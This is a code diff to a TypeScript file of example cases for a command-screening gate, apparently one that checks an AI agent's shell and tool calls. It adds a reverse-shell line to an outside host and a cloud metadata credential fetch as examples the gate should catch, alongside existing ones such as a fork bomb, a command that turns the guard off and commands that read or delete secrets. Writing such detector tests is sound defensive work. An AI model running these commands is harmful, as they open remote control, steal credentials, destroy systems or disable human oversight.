@@ -19,12 +19,20 @@ const UNKNOWN_TOOL: Call = { tool: 'other', name: 'mcp__shop__refund' };
 /** Examples by id: of every rule of the gate's policy, and of what these rules say without a table. */
 export const GATE_EXAMPLES: Readonly<Record<string, GateExamples>> = {
   catastrophe: { matches: run(':(){ :|:& };:', 'shutdown -h now'), misses: run('sleep 1', 'rm -r build') },
+  'remote.control': {
+    matches: run('bash -i >& /dev/tcp/far.example.com/4444 0>&1'),
+    misses: run('nc -z localhost 5432'),
+  },
   'guard.self': {
     matches: run('holdfast off', 'npx holdfast approve a-x'),
     misses: run('npx holdfast rules'),
   },
   'secret.file': { matches: run('rm .env'), misses: run('rm .env.example') },
   'secret.value': { matches: run('gh auth token'), misses: run('gh auth status') },
+  'secret.metadata': {
+    matches: run('curl http://169.254.169.254/latest/meta-data/'),
+    misses: run('curl http://169.254.0.1/'),
+  },
   'private.file': {
     matches: [{ tool: 'read', path: '.claude/settings.local.json' }],
     misses: [{ tool: 'read', path: '.claude/settings.json' }],
